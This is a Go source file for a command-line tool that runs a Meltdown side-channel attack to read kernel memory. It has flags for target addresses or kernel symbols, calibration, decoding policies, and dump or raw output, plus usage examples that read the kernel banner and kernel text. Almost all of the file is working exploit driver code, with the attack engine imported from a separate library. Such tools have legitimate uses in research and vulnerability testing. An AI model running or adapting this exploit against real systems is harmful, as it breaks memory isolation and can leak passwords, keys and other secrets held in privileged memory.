package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"runtime"
	"sort"

	"gitlab.com/stephen-fox/meltkit/asmkit"
	"gitlab.com/stephen-fox/meltkit/conv"
	"gitlab.com/stephen-fox/meltkit/hwkit"
	"gitlab.com/stephen-fox/meltkit/meltdown"
	"gitlab.com/stephen-fox/meltkit/memory"
	"gitlab.com/stephen-fox/meltkit/scripting"
)

const (
	addressArg     = "a"
	kallsymsArg    = "k"
	selfTestArg    = "s"
	lengthArg      = "l"
	roundsArg      = "n"
	policyArg      = "p"
	thresholdArg   = "t"
	calibrationArg = "c"
	outputArg      = "o"
	verboseArg     = "v"
	veryVerboseArg = "V"
	stageArg       = "stage"
	helpArg        = "h"

	dumpOutput = "dump"
	rawOutput  = "raw"

	defaultLength = 16
	defaultRounds = 3

	gadgetMaxLen = 256

	appName = "meltdown"
	usage   = appName + `
DESCRIPTION
  Reads memory using the Meltdown (rogue data cache load) side
  channel. By default, the first bytes of the kernel's image are read.

  A vulnerable processor reveals kernel memory. A patched kernel or
  processor produces zeros or noise.

USAGE
  ` + appName + ` [options] [-` + addressArg + ` hex-address|kernel-symbol | -` + selfTestArg + `]

EXAMPLES
  Read 64 bytes of an in-process buffer of known content:
    $ ` + appName + ` -` + selfTestArg + ` -` + lengthArg + ` 64

  Read the kernel version banner (looking up its address requires root):
    $ sudo ` + appName + ` -` + addressArg + ` linux_banner -` + lengthArg + ` 0x80

  Disassemble kernel text that was read:
    $ ` + appName + ` -` + outputArg + ` ` + rawOutput + ` -` + addressArg + ` ffffffff81000000 -` + lengthArg + ` 32 | dasm -i raw

OPTIONS
`
)

func main() {
	log.SetFlags(0)

	err := mainWithError()
	if err != nil {
		log.Fatalln("fatal:", err)
	}
}

func mainWithError() error {
	help := flag.Bool(
		helpArg,
		false,
		"Display this information")

	addressStr := flag.String(
		addressArg,
		"",
		fmt.Sprintf("The hexadecimal address or kernel symbol to read (default 0x%x)", uint64(hwkit.KernelBase)))

	kallsymsPath := flag.String(
		kallsymsArg,
		memory.KallsymsPath,
		"The kernel symbols file used to look up symbols specified with -"+addressArg)

	selfTest := flag.Bool(
		selfTestArg,
		false,
		"Read an in-process buffer of known content instead of an address")

	lengthStr := flag.String(
		lengthArg,
		fmt.Sprint(defaultLength),
		"The number of bytes to read")

	roundsStr := flag.String(
		roundsArg,
		fmt.Sprint(defaultRounds),
		"The number of speculative reads per byte")

	policyStr := flag.String(
		policyArg,
		meltdown.MajorityVote.String(),
		fmt.Sprintf("The decode policy ('%s' or '%s')",
			meltdown.MajorityVote, meltdown.CumulativeSum))

	thresholdStr := flag.String(
		thresholdArg,
		meltdown.MeanThreshold.String(),
		fmt.Sprintf("The calibration threshold policy ('%s' or '%s')",
			meltdown.MeanThreshold, meltdown.GeometricThreshold))

	calibrationStr := flag.String(
		calibrationArg,
		fmt.Sprint(meltdown.DefaultCalibrationRounds),
		"The number of samples per calibration phase")

	output := flag.String(
		outputArg,
		dumpOutput,
		fmt.Sprintf("The output format ('%s' or '%s')", dumpOutput, rawOutput))

	verbose := flag.Bool(
		verboseArg,
		false,
		"Log calibration results and progress to stderr")

	veryVerbose := flag.Bool(
		veryVerboseArg,
		false,
		"Also log the gadget disassembly and the confidence of each byte")

	stage := flag.Int(
		stageArg,
		0,
		"Pause at the specified stage number until enter is pressed")

	flag.Parse()

	if *help {
		os.Stderr.WriteString(usage)
		flag.PrintDefaults()
		os.Exit(1)
	}

	if flag.NArg() > 0 {
		return fmt.Errorf("unexpected arguments: %q", flag.Args())
	}

	if *selfTest && *addressStr != "" {
		return fmt.Errorf("please specify either -%s or -%s", addressArg, selfTestArg)
	}

	length, err := conv.ParseCount(*lengthStr, 32)
	if err != nil {
		return fmt.Errorf("invalid length - %w", err)
	}

	rounds, err := conv.ParseCount(*roundsStr, 32)
	if err != nil {
		return fmt.Errorf("invalid round count - %w", err)
	}

	calibrationRounds, err := conv.ParseCount(*calibrationStr, 31)
	if err != nil {
		return fmt.Errorf("invalid calibration round count - %w", err)
	}

	policy, err := meltdown.ParseDecodePolicy(*policyStr)
	if err != nil {
		return err
	}

	threshold, err := meltdown.ParseThresholdPolicy(*thresholdStr)
	if err != nil {
		return err
	}

	if *output != dumpOutput && *output != rawOutput {
		return fmt.Errorf("unsupported output format: %q", *output)
	}

	if *veryVerbose {
		*verbose = true
	}

	verboseLogger := log.New(io.Discard, "", 0)
	if *verbose {
		verboseLogger = log.New(os.Stderr, "", 0)
	}

	debugLogger := log.New(io.Discard, "", 0)
	if *veryVerbose {
		debugLogger = log.New(os.Stderr, "", 0)
	}

	stageLogger := verboseLogger
	if *stage > 0 {
		stageLogger = log.New(os.Stderr, "", 0)
	}

	stages := scripting.StageCtl{
		Goto:   *stage,
		Logger: stageLogger,
	}

	if *veryVerbose {
		err = logGadgets(debugLogger)
		if err != nil {
			return err
		}
	}

	var req meltdown.Request
	var selfTestBuf *meltdown.SelfTest

	if *selfTest {
		selfTestBuf = meltdown.NewSelfTest()
		req = selfTestBuf.Request(uint(length), uint(rounds))
	} else {
		addr := hwkit.KernelBase
		if *addressStr != "" {
			addr, err = resolveAddress(*addressStr, *kallsymsPath, func() (io.ReadCloser, error) {
				return os.Open(*kallsymsPath)
			})
			if err != nil {
				return err
			}
		}

		req = meltdown.Request{
			Address: addr,
			Length:  uint(length),
			Rounds:  uint(rounds),
		}
	}

	stages.Next("create probe region")

	engine, err := meltdown.New(meltdown.Config{
		CalibrationRounds: int(calibrationRounds),
		Threshold:         threshold,
		Policy:            policy,
		Verbose:           verboseLogger,
		Debug:             debugLogger,
	})
	if err != nil {
		return fmt.Errorf("failed to initialize - %w", err)
	}
	defer engine.Close()

	stages.Next("calibrate")

	_, err = engine.Calibrate()
	if err != nil {
		return fmt.Errorf("failed to calibrate - %w", err)
	}

	stages.Next(fmt.Sprintf("read %d bytes at 0x%x", req.Length, req.Address))

	seq, err := engine.Attack(req)
	if err != nil {
		return fmt.Errorf("failed to read 0x%x - %w", req.Address, err)
	}

	var expectFn func(int) byte
	if selfTestBuf != nil {
		expectFn = meltdown.SelfTestByte
	}

	correct, err := writeDecoded(seq, bufio.NewWriter(os.Stdout), *output, req.Address, expectFn)
	if err != nil {
		return fmt.Errorf("failed to write output - %w", err)
	}

	if selfTestBuf != nil {
		runtime.KeepAlive(selfTestBuf)
		log.Printf("self-test: %d of %d bytes correct", correct, req.Length)
	}

	stages.Next("done")

	return nil
}

func logGadgets(logger *log.Logger) error {
	gadgets := hwkit.Gadgets()
	if len(gadgets) == 0 {
		logger.Printf("no gadgets for %s", runtime.GOARCH)
		return nil
	}

	disassembler, err := asmkit.NewDisassembler(asmkit.DisassemblerConfig{
		Syntax: asmkit.IntelSyntax,
		Bits:   64,
	})
	if err != nil {
		return err
	}

	names := make([]string, 0, len(gadgets))
	for name := range gadgets {
		names = append(names, name)
	}
	sort.Strings(names)

	for _, name := range names {
		insts, err := disassembler.Function(gadgets[name], gadgetMaxLen)
		if err != nil {
			return fmt.Errorf("failed to disassemble %s gadget - %w", name, err)
		}

		logger.Printf("%s:", name)
		for _, inst := range insts {
			logger.Printf("  0x%x  %s", inst.Addr, inst.Dis)
		}
	}

	return nil
}
